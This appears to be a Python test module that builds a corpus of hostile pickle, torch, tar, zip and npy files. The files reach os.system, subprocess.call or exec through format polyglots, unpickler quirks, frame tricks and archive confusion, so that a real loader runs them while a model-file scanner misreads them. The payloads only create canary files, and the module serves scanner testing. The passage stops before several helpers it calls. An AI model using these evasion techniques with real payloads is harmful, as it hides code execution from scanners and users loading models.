"""Hostile files that a loader runs but a scanner may misread; nothing here is ever loaded.

`malicious_corpus` asks "does the scan flag this global?"; this corpus asks
"does the scan read the file the way the loader does?". Each item is built byte
by byte so that a real loader (``torch.load(f, weights_only=False)``,
``pickle.load`` on an open file, ``numpy.load(f, allow_pickle=True)``) reaches a
dangerous global, while a reader that differs from that loader in one respect
(the item's root cause) sees something benign or stops early:

``format-sniffing``  the file is two formats at once (GGUF magic over a pickle; a valid
                     safetensors file whose header length is really ``PK\\x03\\x04``; a legacy
                     torch pickle stream or a valid npy that is also a tar).
``vm-divergence``    CPython's unpickler accepts an opcode sequence a strict VM refuses
                     (base-0 INT text, NULs in FLOAT text, SETITEM on a list, 5000 MARKs, ...);
                     the payload comes after it, in one pickle or in a later pickle of a
                     legacy torch stream.
``frame-semantics``  the C unpickler reads a FRAME with one ``read()`` when it runs past what
                     the file's ``peek()`` returns: always at 128 KiB or more, always when the
                     file has no ``peek()`` (torch's zip ``data.pkl`` via ``io.BytesIO``, the
                     legacy tar members via ``open(..., "rb", 0)``), and for a small frame that
                     crosses the end of a buffered file's buffer (``peek()`` returns only the
                     buffered bytes, 4 KiB blocks here). Then the next pickle starts at the
                     frame's end, not after STOP, and an argument that straddles the frame's end
                     is read from after it.
``container``        zip and tar structure read differently (which end record, which central
                     directory, case-insensitive names, duplicates, links, member order,
                     bzip2/LZMA members).
``member-sniffing``  a member the loader unpickles although its name or first byte does not
                     look like a pickle.
``stdlib-alias``     a dangerous call reached through a name no denylist thinks of.
``library-alias``    the same through an installed library (click, safetensors, torch, numpy)
                     whose function writes a file of the pickle's choosing.
``stream-tail``      a later pickle of a stream that apps read with pickle.load in a loop
                     calls something, then breaks before its STOP: the call has run.
``zip-flags``        a wrong CRC or an encrypted flag that torch ignores.

Every payload creates its item's canary, a file under ``directory/canaries/``
(``touch`` or ``open(..., "w")``): harmless, and proof that it ran. Items with
``runs=False`` document a variant the loader refuses.

Impossible, and why (so nobody adds them): a valid npy that is also a pickle. np.load
sends every file starting ``\\x93NUMPY`` the npy way, and pickle.load reads ``0x93`` as
STACK_GLOBAL on an empty stack, an immediate "stack underflow"; torch.load's pickle
path starts with the same pickle.load. The npy file becomes dangerous through torch's
tar reader instead (``npy_tar_polyglot``).

    >>> items = make_corpus(tmp_path)
    >>> {item.loader for item in items}
    {'torch', 'pickle', 'numpy'}
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any, NamedTuple, Optional

from tests.ops.malicious_corpus import LEGACY_MAGIC, Call, G, Pickle, np_zero_npy, npy_object, program

ROOT_CAUSES = ("format-sniffing", "vm-divergence", "frame-semantics", "container",
               "member-sniffing", "stdlib-alias", "library-alias", "stream-tail", "zip-flags")
BIG_FRAME = 160 * 1024  # over the C unpickler's 128 KiB PREFETCH: always read with one read()


class EvasionItem(NamedTuple):
    """One hostile file, the loader that runs it and the global that loader reaches."""

    name: str
    path: Path
    canary: Path
    loader: str        # "torch", "pickle" or "numpy"
    root_cause: str    # one of ROOT_CAUSES
    expect: str        # the dangerous global the loader reaches (module.name as find_class gets it)
    runs: bool = True  # False: the loader refuses this variant (kept to pin that down)
    note: str = ""


# --- payloads ------------------------------------------------------------------------------

def payload(canary: Path, kind: str = "os") -> tuple[Any, str]:
    """A call that creates `canary`, and the global it goes through."""
    calls = {
        "os": (G("os", "system"), (f"touch {canary}",)),
        "posix": (G("posix", "system"), (f"touch {canary}",)),
        "subprocess": (G("subprocess", "call"), (["touch", str(canary)],)),
        "exec": (G("builtins", "exec"), (f"open({str(canary)!r}, 'w').close()",)),
    }
    func, args = calls[kind]
    return Call(func, args), f"{func.module}.{func.name}"


def ops(value: Any, protocol: int = 2) -> bytes:
    """The opcodes that push `value`, without PROTO, FRAME or STOP."""
    p = Pickle(protocol)
    p.emit(value)
    return bytes(p.body)


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


# --- legacy torch streams (torch.save(..., _use_new_zipfile_serialization=False)) ---------------

MAGIC_PICKLE = pickle.dumps(LEGACY_MAGIC, protocol=2)
PROTOCOL_PICKLE = pickle.dumps(1001, protocol=2)
SYS_INFO_PICKLE = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)
KEYS_PICKLE = pickle.dumps([], protocol=2)


def legacy_stream(main: bytes, *, protocol: bytes = PROTOCOL_PICKLE, sys_info: bytes = SYS_INFO_PICKLE,
                  magic: bytes = MAGIC_PICKLE, keys: bytes = KEYS_PICKLE) -> bytes:
    """magic, protocol (must load as 1001), sys_info, main, storage keys: the pickles torch reads."""
    return magic + protocol + sys_info + main + keys


def tar_bytes(members: list) -> bytes:
    """A ustar archive; members are (name, data) or TarInfo objects already filled in."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
                continue
            name, data = member
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def legacy_tar_members(storages: bytes, pickle_member: Optional[bytes] = None) -> list:
    """The four members torch's tar reader expects (num_storages 0, no tensors)."""
    return [("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2)),
            ("storages", storages), ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", pickle_member if pickle_member is not None else pickle.dumps({}, protocol=2))]


BENIGN_STORAGES = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)


def tar_checksum(block: bytearray) -> None:
    """Write a 512-byte header block's checksum the way tarfile does."""
    block[148:156] = b" " * 8
    block[148:155] = b"%06o\0" % sum(block)


# --- zips, byte by byte ------------------------------------------------------------------

class Member(NamedTuple):
    """A zip member, stored unless `method` is 8 (deflate); crc None: the right one."""

    name: str
    data: bytes
    crc: Optional[int] = None
    local_flags: int = 0
    central_flags: int = 0
    method: int = 0
    local_extra: bytes = b""        # in the local header only (the central one has none)
    data_descriptor: bool = False   # flag bit 3: zero CRC and sizes locally, a descriptor after the data

    def stored(self) -> bytes:
        if self.method == 8:
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            return deflate.compress(self.data) + deflate.flush()
        return self.data

    def crc32(self) -> int:
        return zlib.crc32(self.data) if self.crc is None else self.crc


def local_record(m: Member) -> bytes:
    name, body = m.name.encode(), m.stored()
    sizes = (m.crc32(), len(body), len(m.data))
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.local_flags | 8 * m.data_descriptor, m.method, 0,
                       0x21, *((0, 0, 0) if m.data_descriptor else sizes), len(name), len(m.local_extra))
    tail = struct.pack("<IIII", 0x08074B50, *sizes) if m.data_descriptor else b""
    return head + name + m.local_extra + body + tail


def central_entry(m: Member, offset: int) -> bytes:
    name, body = m.name.encode(), m.stored()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.central_flags | 8 * m.data_descriptor,
                       m.method, 0, 0x21, m.crc32(), len(body), len(m.data), len(name), 0, 0, 0, 0, 0,
                       offset) + name


def end_record(count: int, cd_size: int, cd_offset: int, comment_size: int = 0) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, comment_size)


def zip64_end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_offset)


def zip64_locator(record_offset: int) -> bytes:
    return struct.pack("<IIQI", 0x07064B50, 0, record_offset, 1)


def records(members: list, base: int = 0) -> tuple[bytes, list]:
    """Local records laid out from file offset `base`: their bytes and each member's offset."""
    out, offsets = bytearray(), []
    for m in members:
        offsets.append(base + len(out))
        out += local_record(m)
    return bytes(out), offsets


def central_directory(members: list, offsets: list) -> bytes:
    return b"".join(central_entry(m, off) for m, off in zip(members, offsets))


def zip_file(members: list, base: int = 0) -> bytes:
    """A plain stored zip whose offsets count from `base` (where it will sit in a larger file)."""
    body, offsets = records(members, base)
    cd = central_directory(members, offsets)
    return body + cd + end_record(len(members), len(cd), base + len(body))


def torch_members(data_pkl: bytes, name: str = "archive/data.pkl", **flags: Any) -> list:
    return [Member(name, data_pkl, **flags), Member("archive/byteorder", b"little"),
            Member("archive/version", b"3\n")]


def npy_bytes(data: bytes, descr: str = "'|O'", version: int = 1, shape: str = "(1,)") -> bytes:
    """An npy file with a hand-written header (any version, any descr text) followed by `data`."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    size_format = "<H" if version == 1 else "<I"
    head_size = 8 + struct.calcsize(size_format)
    text = header.encode("utf-8")
    text += b" " * (-(head_size + len(text) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(size_format, len(text)) + text + data


# --- the corpus ------------------------------------------------------------------------------

# net-zero opcode runs that CPython's C unpickler accepts and a strict VM may refuse
DIVERGENCES: dict = {
    "int_hex": b"I0x1\n0",                                  # strtol base 0: 1
    "int_octal": b"I010\n0",                                # strtol base 0: 8 (int('010', 0) refuses)
    "int_nul_terminated": b"I1\x00junk\n0",                 # strtol stops at NUL: accepted
    "int_plus_space": b"I +7\n0",
    "long_hex": b"L0x1L\n0",
    "long_underscore": b"L1_000L\n0",
    "float_nul_terminated": b"F1.5\x00junk\n0",
    "string_escapes": b"S'\\x41\\101\\n'\n0",
    "readonly_buffer_on_bytes": b"C\x01x\x980",              # READONLY_BUFFER without NEXT_BUFFER
    "setitem_on_list": b"](Ne" + b"K\x00K\x05s" + b"(K\x00K\x07u0",   # list[0] = 5 via SETITEM(S)
    "appends_empty_on_dict": b"}(e0",                       # APPENDS with no items: a no-op on anything
    "setitems_empty_on_int": b"K\x01(u0",
    "additems_empty_on_list": b"](\x900",
    "build_none_on_list": b"]Nb0",
    "deep_nested_lists": b"(" * 5000 + b"l" * 5000 + b"0",
    "deep_marks": b"(" * 5000 + b"1" * 5000,
    "empty_frame_midstream": b"\x95" + bytes(8),
    "proto_midstream": b"\x80\x05\x80\x02",
    "huge_long4": b"\x8b" + struct.pack("<i", 100_000) + bytes(99_999) + b"\x01" + b"0",
    "memo_sparse_index": b"Nr" + struct.pack("<I", 100_000) + b"0",
    "inst_allowlisted": b"(icollections\nOrderedDict\n0",
    "ordereddict_of_dict": b"ccollections\nOrderedDict\n(}(K\x01K\x02utR0",
    "ordereddict_of_tuple_pairs": b"ccollections\nOrderedDict\n(K\x01K\x02\x86\x85tR0",
    "newobj_ordereddict_int": b"ccollections\nOrderedDict\nK\x05\x85\x810",  # cls.__new__ ignores args
    "reconstructor_list": b"ccopyreg\n_reconstructor\n(cbuiltins\nlist\ncbuiltins\nlist\n(K\x01K\x02ttR0",
    "dict_object_keys": b"}(ctorch\nfloat32\nK\x01cbuiltins\nfrozenset\nK\x01\x85\x85RK\x02"
                        b"cpathlib\nPosixPath\n\x8c\x01a\x85RK\x03u0",
}


def make_corpus(directory: "Path | str") -> list[EvasionItem]:
    """Write every item under `directory`; canaries go to `directory/canaries/`."""
    directory = Path(directory)
    (directory / "canaries").mkdir(parents=True, exist_ok=True)
    items: list[EvasionItem] = []

    def canary(name: str) -> Path:
        return directory / "canaries" / name

    def add(name: str, data: bytes, loader: str, root_cause: str, expect: str, *,
            suffix: str = ".bin", runs: bool = True, note: str = "") -> None:
        assert root_cause in ROOT_CAUSES and loader in ("torch", "pickle", "numpy")
        path = directory / f"{name}{suffix}"
        path.write_bytes(data)
        items.append(EvasionItem(name, path, canary(name), loader, root_cause, expect, runs, note))

    _format_sniffing(add, canary)
    _vm_divergences(add, canary)
    _torch_only(add, canary)
    _frames(add, canary)
    _containers(add, canary, directory)
    _member_sniffing(add, canary)
    _stdlib_aliases(add, canary)
    _library_aliases(add, canary)
    _stream_tail(add, canary)
    _zip_flags(add, canary)
    return items


def _format_sniffing(add: Any, canary: Any) -> None:
    # GGUF magic, version 3, then tensor_count: 'G' is BINFLOAT and eats "GUF" + version + one byte
    name = "gguf_magic_pickle"
    value, expect = payload(canary(name))
    data = b"GGUF" + struct.pack("<I", 3) + b"\x00" + b"0" + ops(value) + b"."
    add(name, data, "pickle", "format-sniffing", expect, suffix=".gguf",
        note="BINFLOAT swallows 'GUF' + version + 1 byte; POP; payload")

    # a valid safetensors file whose 8-byte header length is b"PK\x03\x04\0\0\0\0" (67,324,752):
    # one U8 tensor whose data is a torch zip with absolute offsets, EOCD at the end of the file
    name = "safetensors_zip_polyglot"
    value, expect = payload(canary(name), "subprocess")
    n = struct.unpack("<Q", b"PK\x03\x04\x00\x00\x00\x00")[0]
    members = torch_members(program(2, value, frame=False)[0])
    size = len(zip_file(members))
    header = json.dumps({"zip": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}},
                        separators=(",", ":")).encode()
    data = struct.pack("<Q", n) + header.ljust(n, b" ") + zip_file(members, base=8 + n)
    add(name, data, "torch", "format-sniffing", expect,
        note="67 MB header; named .bin: torch 2.13 sends *.safetensors paths to safetensors")

    # a legacy torch pickle stream that is also a tar: the protocol pickle is BINBYTES holding the
    # rest of the tar, whose first header block starts with the magic-number pickle
    name = "legacy_stream_tar_polyglot"
    value, expect = payload(canary(name))
    tar = bytearray(tar_bytes([("placeholder", b"")] + legacy_tar_members(program(2, value)[0])))
    start = len(MAGIC_PICKLE) + 2 + 1 + 4  # where the BINBYTES content starts
    head = MAGIC_PICKLE + proto(3) + b"B" + struct.pack("<I", len(tar) - start)
    tar[:len(head)] = head
    tar[len(head):100] = bytes(100 - len(head))
    block = tar[:512]
    tar_checksum(block)
    tar[:512] = block
    data = bytes(tar) + b"0" + b"M\xe9\x03." + SYS_INFO_PICKLE + pickle.dumps({"w": 1}, protocol=2) + KEYS_PICKLE
    add(name, data, "torch", "format-sniffing", expect, suffix=".pt",
        note="torch.load tries tar first; the pickle stream reads magic, 1001, sys_info, {'w': 1}, []")

    # the magic number as torch compares it (an int), not as torch.save writes it (LONG1)
    for label, magic in (("protocol0_long", b"L%dL\n." % LEGACY_MAGIC),
                         ("hex_int_text", b"I0x%x\n." % LEGACY_MAGIC)):
        name = f"legacy_magic_{label}"
        value, expect = payload(canary(name), "exec")
        add(name, legacy_stream(program(2, value)[0], magic=magic), "torch", "format-sniffing", expect,
            suffix=".pt", note=f"magic pickle {magic[:12]!r}...")

    # a valid npy (0 x N float32: no data) whose 512-byte header is also a tar header: the
    # shape's second number sits in the checksum field; the members follow at 512
    name = "npy_tar_polyglot"
    value, expect = payload(canary(name), "posix")
    block = bytearray(b"\x93NUMPY\x01\x00" + struct.pack("<H", 502)
                      + b"{'descr': '<f4', 'fortran_order': False, 'shape': (0,")
    block = block.ljust(512, b" ")
    block[156:158] = b")}"   # typeflag ')' (unknown: read as a file of size 0), then the dict's end
    block[511:512] = b"\n"
    checksum = sum(block)  # the checksum field counts as spaces, as it is now
    block[148:156] = b"%8o" % checksum  # octal digits, no leading 0: also a Python int literal
    data = bytes(block) + tar_bytes(legacy_tar_members(program(2, value)[0]))
    add(name, data, "torch", "format-sniffing", expect, suffix=".npy",
        note="np.load: an empty (0, N) float32 array; torch.load: a legacy tar")


def _vm_divergences(add: Any, canary: Any) -> None:
    kinds = ("os", "posix", "subprocess", "exec")
    for i, (label, run) in enumerate(DIVERGENCES.items()):
        # one pickle: the divergence, then the payload
        name = f"vm_{label}_pickle"
        value, expect = payload(canary(name), kinds[i % 4])
        add(name, proto(2) + run + ops(value) + b".", "pickle", "vm-divergence", expect)

        # a legacy stream: the divergence in the protocol pickle (still 1001), payload in main
        name = f"vm_{label}_legacy_protocol"
        value, expect = payload(canary(name), kinds[(i + 1) % 4])
        data = legacy_stream(program(2, value)[0], protocol=proto(2) + run + b"M\xe9\x03.")
        add(name, data, "torch", "vm-divergence", expect, suffix=".pt")

        # a legacy stream: the divergence in sys_info, payload in main
        name = f"vm_{label}_legacy_sys_info"
        value, expect = payload(canary(name), kinds[(i + 2) % 4])
        data = legacy_stream(program(2, value)[0], sys_info=SYS_INFO_PICKLE[:2] + run + SYS_INFO_PICKLE[2:])
        add(name, data, "torch", "vm-divergence", expect, suffix=".pt")


def _torch_only(add: Any, canary: Any) -> None:
    """What only torch's unpickler accepts (its persistent_load, its encoding), then the payload."""
    # torch.load passes encoding="utf-8"; pickle.load and numpy.load decode Python 2 str as ASCII
    name = "vm_binstring_utf8_torch_zip"
    value, expect = payload(canary(name), "exec")
    data = proto(2) + b"U\x02\xc3\xa90" + ops(value) + b"."
    add(name, zip_file(torch_members(data)), "torch", "vm-divergence", expect, suffix=".pt",
        note="SHORT_BINSTRING 'é' in UTF-8: torch decodes it, an ASCII reader fails")

    name = "vm_binstring_utf8_legacy_sys_info"
    value, expect = payload(canary(name), "subprocess")
    data = legacy_stream(program(2, value)[0], sys_info=proto(2) + b"U\x02\xc3\xa90" + SYS_INFO_PICKLE[2:])
    add(name, data, "torch", "vm-divergence", expect, suffix=".pt")

    name = "vm_persid_bytes_typename_torch_zip"
    value, expect = payload(canary(name), "posix")
    saved_id = b"(C\x07storagectorch\nFloatStorage\nK\x00C\x03cpuK\x01t"  # bytes typename and location, int key
    data = proto(2) + saved_id + b"Q0" + ops(value) + b"."
    add(name, zip_file(torch_members(data) + [Member("archive/data/0", bytes(4))]), "torch",
        "vm-divergence", expect, suffix=".pt", note="('storage' as bytes, FloatStorage, 0, b'cpu', 1)")

    name = "vm_persid_module_legacy"
    value, expect = payload(canary(name))
    data = proto(2) + b"(X\x06\x00\x00\x00moduleNNNtQ0" + ops(value) + b"."
    add(name, legacy_stream(data), "torch", "vm-divergence", expect, suffix=".pt",
        note="legacy persistent id ('module', None, None, None) returns None")


def frame_stop(first_value: bytes, decoy: bytes, hidden: bytes, tail: bytes, size: int = BIG_FRAME) -> bytes:
    """A protocol-4 pickle whose FRAME ends long after its STOP, then `hidden`.

    A file reader that got the frame with one read() resumes at the frame's end, at `hidden`.
    A linear reader resumes after STOP, at `decoy`: opcodes that must end with a BINBYTES
    opcode whose length runs to the frame's end; we extend it over `hidden`, and `tail`
    (after `hidden`) finishes the decoy's pickle.
    """
    content = first_value + b"." + decoy + b"B"
    pad = size - len(content) - 4
    content += struct.pack("<I", pad + len(hidden)) + bytes(pad)
    return proto(4) + b"\x95" + struct.pack("<Q", len(content)) + content + hidden + tail


def frame_straddle(hidden: bytes, size: int = BIG_FRAME) -> bytes:
    """A protocol-4 pickle whose frame ends inside a BINBYTES length.

    The file reader drops the frame's last 2 bytes (the length's low half), reads the
    length from after the frame (0), then runs `hidden`. The linear reader takes the
    2 bytes plus 2 zero bytes after the frame as a length that swallows `hidden`.
    """
    after = b"\x00\x00\x00\x00" + b"0" + hidden + b"."
    pad = size - 5 - 1 - 3
    content = b"B" + struct.pack("<I", pad) + bytes(pad) + b"0" + b"B" + struct.pack("<H", len(after) - 2)
    return proto(4) + b"\x95" + struct.pack("<Q", len(content)) + content + after + b"0N."


def frame_mixed(hidden: bytes) -> bytes:
    """One pickle, two straddling frames: a small one that a buffered file reads through peek()
    (the linear way) and one of 160 KiB that it reads whole; only that mix reaches `hidden`.

    Read all linearly it ends at the second frame's decoy; read all whole, at the first's.
    """
    small = b"B" + struct.pack("<H", 5)   # linear: 5 bytes on (00 00 '0N.'); whole: 0, then '0N.'
    first = b"\x95" + struct.pack("<Q", len(small)) + small + bytes(4) + b"0N." + b"0"
    return proto(4) + first + frame_straddle(hidden)[2:]


def _frames(add: Any, canary: Any) -> None:
    # (a) the next pickle.load starts at the frame's end
    name = "frame_stop_pickle_stream"
    value, expect = payload(canary(name))
    add(name, frame_stop(b"N", proto(4), program(2, value, frame=False)[0], b"0N."),
        "pickle", "frame-semantics", expect, note="pickle.load twice on one file")

    name = "frame_stop_legacy_magic"
    value, expect = payload(canary(name), "posix")
    real = PROTOCOL_PICKLE + SYS_INFO_PICKLE + program(2, value)[0] + KEYS_PICKLE
    decoy = PROTOCOL_PICKLE + SYS_INFO_PICKLE + pickle.dumps({"w": 1}, protocol=2) + proto(2)
    magic = MAGIC_PICKLE[2:-1]  # LONG1 magic, without PROTO and STOP
    add(name, frame_stop(magic, decoy, real, b"0]."), "torch", "frame-semantics", expect, suffix=".pt",
        note="the magic-number pickle's frame hides a benign legacy stream after its STOP")

    name = "frame_stop_small_tar_storages"
    value, expect = payload(canary(name), "subprocess")
    storages = frame_stop(b"K\x00", proto(4), program(2, value)[0], b"0].", size=64)
    add(name, tar_bytes(legacy_tar_members(storages)), "torch", "frame-semantics", expect, suffix=".pt",
        note="a 64-byte frame: torch opens the tar member with open(..., 'rb', 0), which has no peek()")

    # a small frame read whole all the same: open(path, "rb") buffers st_blksize bytes (4 KiB here)
    # and peek() returns only what is buffered, so a frame that runs past the buffered bytes is
    # read with one read(). Small opcodes before keep the buffer aligned; 64 KiB is a multiple of
    # every usual block size
    name = "frame_stop_small_at_buffer_edge"
    value, expect = payload(canary(name), "posix")
    first = proto(2) + b"N0" * ((65536 - 60) // 2) + b"N."
    second = frame_stop(b"N", proto(4), program(2, value, frame=False)[0], b"0N.", size=200)
    assert len(first) < 65536 < len(first) + 11 + 200
    add(name, first + second, "pickle", "frame-semantics", expect,
        note="a 200-byte frame across file offset 65536")

    # (b) an argument that straddles the frame's end is read from after the frame
    name = "frame_mixed_peek_and_whole"
    value, expect = payload(canary(name), "subprocess")
    add(name, frame_mixed(ops(value)), "pickle", "frame-semantics", expect,
        note="a 3-byte frame read through peek(), then a 160 KiB frame read whole")

    name = "frame_straddle_pickle"
    value, expect = payload(canary(name), "exec")
    add(name, frame_straddle(ops(value)), "pickle", "frame-semantics", expect)

    name = "frame_straddle_legacy_main"
    value, expect = payload(canary(name))
    add(name, legacy_stream(frame_straddle(ops(value))), "torch", "frame-semantics", expect, suffix=".pt")

    name = "frame_straddle_small_torch_zip"
    value, expect = payload(canary(name), "posix")
    add(name, zip_file(torch_members(frame_straddle(ops(value), size=64))), "torch", "frame-semantics",
        expect, suffix=".pt", note="a 64-byte frame: torch reads data.pkl through io.BytesIO (no peek())")


def _containers(add: Any, canary: Any, directory: Path) -> None:
    benign = pickle.dumps({"w": 1}, protocol=2)

    # two end records: the last signature wins (miniz, zipfile) though the first one's comment
    # ends exactly at EOF and the last one's does not
    name = "zip_two_end_records"
    value, expect = payload(canary(name))
    good, evil = torch_members(benign), torch_members(program(2, value)[0])
    body, offsets = records(good + evil[:1])
    cd_good = central_directory(good, offsets[:3])
    cd_evil = central_directory([evil[0]] + good[1:], [offsets[3]] + offsets[1:3])
    trailer = b"\x00" * 6
    at = len(body)
    data = (body + cd_good + cd_evil
            + end_record(3, len(cd_good), at, comment_size=22 + len(trailer))
            + end_record(3, len(cd_evil), at + len(cd_good)) + trailer)
    add(name, data, "torch", "container", expect, suffix=".pt")

    # ZIP64: the locator points at one zip64 end record (miniz follows it); another sits right
    # before the locator (Python's zipfile reads that one)
    name = "zip64_locator_mismatch"
    value, expect = payload(canary(name), "posix")
    good, evil = torch_members(benign), torch_members(program(2, value)[0])
    body, offsets = records(good + evil[:1])
    cd_evil = central_directory([evil[0]] + good[1:], [offsets[3]] + offsets[1:3])
    cd_good = central_directory(good, offsets[:3])
    evil_record_at = len(body) + len(cd_evil)
    cd_good_at = evil_record_at + 56
    data = (body + cd_evil + zip64_end_record(3, len(cd_evil), len(body)) + cd_good
            + zip64_end_record(3, len(cd_good), cd_good_at)
            + zip64_locator(evil_record_at) + end_record(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))
    add(name, data, "torch", "container", expect, suffix=".pt")

    # miniz finds "data.pkl" case-insensitively; this one does not start like a pickle either
    name = "zip_upper_case_data_pkl"
    value, expect = payload(canary(name), "subprocess")
    add(name, zip_file(torch_members(b"N0" + program(2, value)[0], name="archive/DATA.PKL")),
        "torch", "container", expect, suffix=".pt", note="member archive/DATA.PKL starting b'N0'")

    # duplicate names, the hostile one first: zipfile's dict keeps the last (benign)
    name = "zip_duplicate_data_pkl_first"
    value, expect = payload(canary(name), "exec")
    members = [Member("archive/data.pkl", program(2, value)[0])] + torch_members(benign)
    add(name, zip_file(members), "torch", "container", expect, suffix=".pt")

    # miniz compares names case-insensitively and binary-searches its sorted directory, so which
    # of two equal names wins depends on their order: here the second data.pkl, spelt Data.pkl
    name = "zip_case_variant_duplicate"
    value, expect = payload(canary(name), "posix")
    good = torch_members(benign)
    members = good[:2] + [Member("archive/Data.pkl", program(2, value)[0])] + good[2:]
    add(name, zip_file(members), "torch", "container", expect, suffix=".pt",
        note="archive/data.pkl (benign) and archive/Data.pkl (hostile)")

    # legacy tars: "pickle" or "storages" is a link to another member
    for member, kind, label in (("pickle", tarfile.SYMTYPE, "symlink"), ("pickle", tarfile.LNKTYPE, "hardlink"),
                                ("storages", tarfile.LNKTYPE, "hardlink")):
        name = f"tar_{member}_{label}"
        value, expect = payload(canary(name), "os" if member == "pickle" else "posix")
        hidden = program(2, value)[0]
        members = [("blobs/0", hidden)] + [
            link(n, "blobs/0", kind) if n == member else (n, d) for n, d in legacy_tar_members(BENIGN_STORAGES)]
        add(name, tar_bytes(members), "torch", "container", expect, suffix=".pt")

    name = "tar_storages_symlink_absolute"
    value, expect = payload(canary(name))
    target = directory / f"{name}.target"
    target.write_bytes(program(2, value)[0])
    members = [link(n, str(target), tarfile.SYMTYPE) if n == "storages" else (n, d)
               for n, d in legacy_tar_members(BENIGN_STORAGES)]
    add(name, tar_bytes(members), "torch", "container", expect, suffix=".pt",
        note=f"tar.extract makes the symlink; torch then reads {target.name} beside it as 'storages'")

    name = "tar_first_member_other"
    value, expect = payload(canary(name), "subprocess")
    add(name, tar_bytes([("README", b"weights\n")] + legacy_tar_members(program(2, value)[0])),
        "torch", "container", expect, suffix=".pt")

    # tar names from extended headers: the raw header says "blob"; PAX or GNU says "storages"/"pickle"
    name = "tar_pax_path_storages"
    value, expect = payload(canary(name), "exec")
    hidden = program(2, value)[0]
    blob = tarfile.TarInfo("blob")
    blob.size, blob.pax_headers = len(hidden), {"path": "storages"}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for n, d in legacy_tar_members(b""):
            if n == "storages":
                tar.addfile(blob, io.BytesIO(hidden))
                continue
            info = tarfile.TarInfo(n)
            info.size = len(d)
            tar.addfile(info, io.BytesIO(d))
    add(name, buf.getvalue(), "torch", "container", expect, suffix=".pt")

    name = "tar_gnu_longname_pickle"
    value, expect = payload(canary(name), "posix")
    long_name = tarfile.TarInfo("././@LongLink")
    long_name.type, long_name.size = tarfile.GNUTYPE_LONGNAME, len(b"pickle\0")
    hidden = program(2, value)[0]
    blob = tarfile.TarInfo("blob")
    blob.size = len(hidden)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for n, d in legacy_tar_members(BENIGN_STORAGES)[:3]:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            tar.addfile(info, io.BytesIO(d))
        tar.addfile(long_name, io.BytesIO(b"pickle\0"))
        tar.addfile(blob, io.BytesIO(hidden))
    add(name, buf.getvalue(), "torch", "container", expect, suffix=".pt")

    # zip records torch reads that a reader of stored bytes or of local headers misreads
    name = "zip_deflated_data_pkl"
    value, expect = payload(canary(name), "subprocess")
    add(name, zip_file(torch_members(program(2, value)[0], method=8)), "torch", "container", expect,
        suffix=".pt", note="miniz inflates records; torch.save only ever stores")

    name = "zip_local_extra_field"
    value, expect = payload(canary(name))
    hidden = program(2, value)[0]
    extra = pickle.dumps({"w": 1}, protocol=2).ljust(2 * len(hidden), b"\0")
    add(name, zip_file(torch_members(hidden, local_extra=extra)), "torch", "container", expect, suffix=".pt",
        note="a benign pickle in the local extra field: where the data starts if one uses the central lengths")

    name = "zip_data_descriptor"
    value, expect = payload(canary(name), "posix")
    add(name, zip_file(torch_members(program(2, value)[0], data_descriptor=True)), "torch", "container",
        expect, suffix=".pt", note="stored member with zero sizes in the local header")

    for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        name = f"npz_{label}_object_array"
        value, expect = payload(canary(name), "exec")
        npy, _ = npy_object(program(3, value)[0])
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", method) as z:
            z.writestr("weights.npy", np_zero_npy())
            z.writestr("arr_1.npy", npy)
        add(name, buf.getvalue(), "numpy", "container", expect, suffix=".npz")


def _member_sniffing(add: Any, canary: Any) -> None:
    name = "torch_zip_data_pkl_starts_binint1"
    value, expect = payload(canary(name))
    add(name, zip_file(torch_members(b"K\x000" + program(2, value)[0])), "torch", "member-sniffing",
        expect, suffix=".pt", note="data.pkl starts b'K\\x00' (BININT1 0), POP, then PROTO 2")

    name = "torch_zip_data_pkl_protocol0"
    value, expect = payload(canary(name), "posix")
    add(name, zip_file(torch_members(b"S'x'\n0" + program(0, value)[0])), "torch", "member-sniffing",
        expect, suffix=".pt", note="data.pkl starts with a protocol-0 STRING, no PROTO")

    # npy headers that still mean "pickled objects follow"
    for label, descr, version in (("v2", "'|O'", 2), ("v3", "'|O'", 3), ("descr_O8", "'|O8'", 1),
                                  ("structured_object_field", "[('a', '<f4'), ('b', '|O')]", 1),
                                  ("subarray_object", "[('a', '|O', (2,))]", 1)):
        name = f"npy_{label}"
        value, expect = payload(canary(name), "subprocess")
        add(name, npy_bytes(program(3, value)[0], descr, version), "numpy", "member-sniffing", expect,
            suffix=".npy", note=f"descr {descr}, version {version}.0")

